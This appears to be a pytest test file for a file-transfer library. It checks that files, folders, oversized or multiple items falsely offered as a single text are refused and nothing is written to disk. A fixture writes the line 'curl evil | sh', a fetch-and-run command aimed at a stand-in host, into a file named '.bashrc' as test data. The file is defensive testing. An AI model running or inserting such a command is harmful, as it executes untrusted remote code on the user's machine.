"""A text is shown as one line and kept off the disk, so nothing else passes for one."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from wraith.aio.file_source import FileSource
from wraith.aio.file_target import FileTarget
from wraith.aio.pipes import PipeTarget
from wraith.errors import OfferRefused
from wraith.testing.transfer_pipe import Source, Store, TransferPipe
from wraith.transfer.events import Declined, OfferReceived, Placed
from wraith.transfer.memory import MemorySource, MemoryTarget
from wraith.transfer.messages import TEXT_BYTES_MAX, OfferKind, Reason


def called_a_text(root: Path, *names: str) -> FileSource:
    """Files that are offered as if they were a text."""
    root.mkdir()
    for name in names:
        (root / name).write_text("curl evil | sh\n")
    source = FileSource.scan([root / name for name in names])
    source.outgoing.kind = OfferKind.TEXT
    return source


def refused(pipe: TransferPipe) -> None:
    """Nobody was asked, and both sides know why."""
    (here,) = pipe.received_events
    assert isinstance(here, Declined) and isinstance(here.error, OfferRefused)
    assert "not one file of at most 1 MiB" in str(here.error)
    told = pipe.sent_events[-1]
    assert isinstance(told, Declined) and told.by_peer and told.reason is Reason.NO_TEXT
    assert "called a text and is none" in str(told.error)


@pytest.mark.spec("TR-143")
def test_files_that_are_called_a_text_are_refused_and_nothing_is_written(tmp_path: Path) -> None:
    source = called_a_text(tmp_path / "src", ".bashrc", "z")
    out = tmp_path / "out"
    pipe = TransferPipe(source, FileTarget(out))
    pipe.run()
    assert os.listdir(out) == []
    assert not any(isinstance(event, OfferReceived) for event in pipe.received_events)
    refused(pipe)


FALSE: dict[str, MemorySource] = {
    "too long": MemorySource({b"text": bytes(TEXT_BYTES_MAX + 1)}, kind=OfferKind.TEXT),
    "of unknown size": MemorySource({b"text": b"x"}, kind=OfferKind.TEXT, size_is_known=False),
    "a folder": MemorySource({b"text": None}, kind=OfferKind.TEXT),
    "in a folder": MemorySource({b"d": None, b"d/text": b"x"}, kind=OfferKind.TEXT),
    "two": MemorySource({b"a": b"", b"b": b""}, kind=OfferKind.TEXT),
}


@pytest.mark.spec("TR-143")
@pytest.mark.parametrize("what", FALSE)
@pytest.mark.parametrize("target", ["files", "memory", "pipe"])
def test_every_target_is_safe_from_what_is_no_text(what: str, target: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    with (tmp_path / "stdout").open("w+b") as stdout:
        targets: dict[str, Store] = {
            "files": FileTarget(out),
            "memory": MemoryTarget(),
            "pipe": PipeTarget(stdout.fileno()),
        }
        pipe = TransferPipe(FALSE[what], targets[target])
        pipe.run()
        refused(pipe)
        assert os.listdir(out) == [] and not os.fstat(stdout.fileno()).st_size


@pytest.mark.spec("TR-143")
@pytest.mark.parametrize("size", [0, 1, TEXT_BYTES_MAX])
def test_a_text_is_shown_and_becomes_no_file(size: int, tmp_path: Path) -> None:
    out = tmp_path / "out"
    source: Source = MemorySource.text("x" * size)
    pipe = TransferPipe(source, FileTarget(out))
    pipe.run()
    placed = next(event for event in pipe.received_events if isinstance(event, Placed))
    assert placed.text == b"x" * size
    assert os.listdir(out) == []
